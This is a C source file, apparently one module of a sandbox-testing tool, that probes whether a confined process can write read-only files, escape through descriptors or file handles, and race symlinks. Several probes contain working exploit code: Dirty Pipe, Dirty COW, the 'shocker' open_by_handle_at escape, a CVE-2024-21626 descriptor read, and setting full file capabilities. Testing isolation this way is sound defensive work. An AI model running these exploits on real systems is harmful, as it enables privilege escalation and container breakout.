// SPDX-License-Identifier: Apache-2.0
// Files: writing what is read-only, getting out by descriptors, handles, links, races, page cache.
#include "probe.h"
#include <linux/fs.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>

static int f_read(char **arg)
{
    char text[256];
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return refused("open");
    ssize_t n = read(fd, text, sizeof(text) - 1);
    if (n < 0)
        return refused("read");
    text[n] = 0;
    text[strcspn(text, "\n")] = 0;
    return worked("%zd bytes: %s", n, text);
}
static int f_write(char **arg)
{
    int fd = open(arg[0], O_WRONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return refused("open for writing");
    const char *text = arg[1] ? arg[1] : "";
    return verdict(write(fd, text, strlen(text)), "write");
}
static int f_create(char **arg)
{
    return verdict(open(arg[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666), "create");
}
static int f_unlink(char **arg)
{
    return verdict(unlink(arg[0]), "unlink");
}
static int f_chmod(char **arg)
{
    return verdict(chmod(arg[1], (mode_t)strtoul(arg[0], NULL, 8)), "chmod");
}
static int f_chown(char **arg)
{
    return verdict(lchown(arg[1], (uid_t)atoi(arg[0]), (gid_t)atoi(arg[0])), "chown");
}
static int f_link(char **arg)
{
    return verdict(link(arg[0], arg[1]), "hard link");
}

// FD PATH: read PATH relative to an inherited directory descriptor (CVE-2024-21626).
static int f_read_at(char **arg)
{
    char text[256];
    int fd = openat(atoi(arg[0]), arg[1], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return refused("open by an inherited directory");
    ssize_t n = read(fd, text, sizeof(text));
    return worked("read %zd bytes", n);
}
// FD FLAGS: open again what a descriptor is, with more rights than it has.
static int f_reopen(char **arg)
{
    char path[40];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", atoi(arg[0]));
    int flags = strchr(arg[1], 'w') ? O_RDWR : O_RDONLY;
    return verdict(open(path, flags | O_CLOEXEC | O_NONBLOCK), "reopen");
}
static int f_fchmod(char **arg)
{
    return verdict(fchmod(atoi(arg[0]), 0777), "change the mode of an inherited file");
}

// The shocker: a handle for inode 2 opens the root of a whole file system.
static int f_handle(char **arg)
{
    struct {
        struct file_handle h;
        unsigned char bytes[8];
    } fh = {.h = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
    int at = open(arg[0], O_RDONLY | O_CLOEXEC);
    if (at < 0)
        return broken("open %s", arg[0]);
    return verdict(open_by_handle_at(at, &fh.h, O_RDONLY), "open by handle");
}

static int f_xattr(char **arg)
{
    return verdict(lsetxattr(arg[0], arg[1], arg[2], strlen(arg[2]), 0), arg[1]);
}
// A file capability: version 2, all of them.
static int f_setcap(char **arg)
{
    static const unsigned char all[20] = {1, 0, 0, 2, 255, 255, 255, 255, 0, 0, 0, 0, 255, 255};
    return verdict(setxattr(arg[0], "security.capability", all, sizeof(all), 0),
                   "set file capabilities");
}
static int f_immutable(char **arg)
{
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC), flags = FS_IMMUTABLE_FL;
    if (fd < 0)
        return broken("open %s", arg[0]);
    return verdict(ioctl(fd, FS_IOC_SETFLAGS, &flags), "make immutable");
}
static int f_freeze(char **arg)
{
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC), zero = 0;
    if (fd < 0)
        return broken("open %s", arg[0]);
    return verdict(ioctl(fd, FIFREEZE, &zero), "freeze the file system");
}

// --- the page cache ------------------------------------------------------------------------------

// CVE-2022-0847: a pipe buffer keeps its merge flag, and a write to the pipe lands in the file.
static int f_dirty_pipe(char **arg)
{
    int p[2], fd = open(arg[0], O_RDONLY | O_CLOEXEC);
    char page[4096] = {0}, before[2] = {0}, after[2] = {0};
    if (fd < 0 || pipe(p))
        return broken("open %s", arg[0]);
    if (pread(fd, before, 2, 0) != 2)
        return broken("read %s", arg[0]);
    for (int i = 0; i < 16; i++)
        if (write(p[1], page, sizeof(page)) < 0)
            return broken("fill the pipe");
    for (int i = 0; i < 16; i++)
        if (read(p[0], page, sizeof(page)) < 0)
            return broken("drain the pipe");
    loff_t at = 0;
    if (splice(fd, &at, p[1], NULL, 1, 0) < 0)
        return refused("splice");
    if (write(p[1], "\x01", 1) < 0 || pread(fd, after, 2, 0) != 2)
        return broken("write to the pipe");
    if (memcmp(before, after, 2))
        return worked("changed a read-only file");
    errno = EROFS;
    return refused("write through a pipe");
}
// CVE-2016-5195: write by /proc/self/mem while the private copy is thrown away.
static int f_dirty_cow(char **arg)
{
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC);
    char before, after;
    if (fd < 0 || pread(fd, &before, 1, 0) != 1)
        return broken("open %s", arg[0]);
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (map == MAP_FAILED || mem < 0)
        return refused("open /proc/self/mem");
    pid_t child = fork();
    if (!child)
        for (int i = 0; i < 20000; i++)
            madvise(map, 4096, MADV_DONTNEED);
    char other = (char)~before;
    for (int i = 0; child && i < 20000; i++) {
        madvise(map, 4096, MADV_DONTNEED);
        if (pwrite(mem, &other, 1, (off_t)(uintptr_t)map) < 0)
            break;
    }
    if (!child)
        _exit(0);
    waitpid(child, NULL, 0);
    if (pread(fd, &after, 1, 0) == 1 && after != before)
        return worked("changed a read-only file");
    errno = EROFS;
    return refused("write by copy-on-write");
}
static int f_map_shared(char **arg)
{
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return broken("open %s", arg[0]);
    void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    return verdict(p == MAP_FAILED ? -1 : 0, "map for writing");
}

// --- races and bombs -----------------------------------------------------------------------------

// PATH A B: PATH is a symlink to A and to B in turn, until killed.
static int f_flip(char **arg)
{
    char temp[300];
    snprintf(temp, sizeof(temp), "%s.flip", arg[0]);
    for (;;) {
        for (int i = 1; i <= 2; i++) {
            unlink(temp);
            if (symlink(arg[i], temp) || rename(temp, arg[0]))
                continue;
        }
    }
    return 0; // never
}
// PATH OTHER: a directory and a symlink trade names, until killed.
static int f_exchange(char **arg)
{
    for (;;)
        renameat2(AT_FDCWD, arg[0], AT_FDCWD, arg[1], RENAME_EXCHANGE);
    return 0; // never
}
// A chain of directories, far deeper than a path may be long.
static int f_deep(char **arg)
{
    int n = atoi(arg[1]);
    if (mkdir(arg[0], 0755) || chdir(arg[0]))
        return refused("make directories");
    for (int i = 0; i < n; i++)
        if (mkdir("d", 0755) || chdir("d"))
            return refused("make directories");
    return worked("%d levels", n);
}
// Lock a file shared with others, the whole of it, and stay.
static int f_lock(char **arg)
{
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return refused("open");
    return verdict(flock(fd, LOCK_EX | LOCK_NB), "lock");
}
static int f_lease(char **arg)
{
    int fd = open(arg[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return refused("open");
    return verdict(fcntl(fd, F_SETLEASE, F_RDLCK), "lease");
}

static const struct probe_row rows[] = {
    {"read", 1, false, f_read, "PATH"},          {"write", 1, true, f_write, "PATH [TEXT]"},
    {"create", 1, true, f_create, "PATH"},       {"unlink", 1, true, f_unlink, "PATH"},
    {"chmod", 2, true, f_chmod, "MODE PATH"},    {"chown", 2, true, f_chown, "ID PATH"},
    {"link", 2, true, f_link, "FROM TO"},        {"read-at", 2, true, f_read_at, "FD PATH"},
    {"reopen", 2, true, f_reopen, "FD r|w"},     {"fchmod", 1, true, f_fchmod, "FD"},
    {"handle", 1, true, f_handle, "PATH"},       {"xattr", 3, true, f_xattr, "PATH NAME VALUE"},
    {"setcap", 1, true, f_setcap, "PATH"},       {"immutable", 1, true, f_immutable, "PATH"},
    {"freeze", 1, true, f_freeze, "PATH"},       {"dirty-pipe", 1, true, f_dirty_pipe, "PATH"},
    {"dirty-cow", 1, true, f_dirty_cow, "PATH"}, {"map-shared", 1, true, f_map_shared, "PATH"},
    {"flip", 3, true, f_flip, "PATH A B"},       {"exchange", 2, true, f_exchange, "PATH OTHER"},
    {"deep", 2, true, f_deep, "PATH LEVELS"},    {"lock", 1, true, f_lock, "PATH"},
    {"lease", 1, true, f_lease, "PATH"},
};

int main(int argc, char **argv)
{
    return probe_main(argc, argv, rows, sizeof(rows) / sizeof(rows[0]));
}
